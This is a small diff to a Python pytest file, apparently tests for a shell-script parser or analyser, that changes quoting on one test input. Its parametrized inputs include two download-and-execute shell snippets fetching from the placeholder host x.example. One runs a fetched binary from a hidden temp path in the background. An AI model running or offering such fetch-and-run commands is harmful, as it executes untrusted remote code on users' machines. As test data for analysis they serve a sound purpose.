@@ -348,7 +348,7 @@ def test_a_quoted_star_expansion_is_one_word_joined_by_ifs() -> None:
 @pytest.mark.parametrize(
     "text",
     [
-        'curl -o ./tool https://x.example/t\nchmod +x ./tool\n./tool --version\n',
+        "curl -o ./tool https://x.example/t\nchmod +x ./tool\n./tool --version\n",
         'd="${TMPDIR:-/tmp}/.h-$$"\ncurl -fsSL https://x.example/h -o "$d"\nchmod 755 "$d"\n"$d" &\n',
     ],
 )
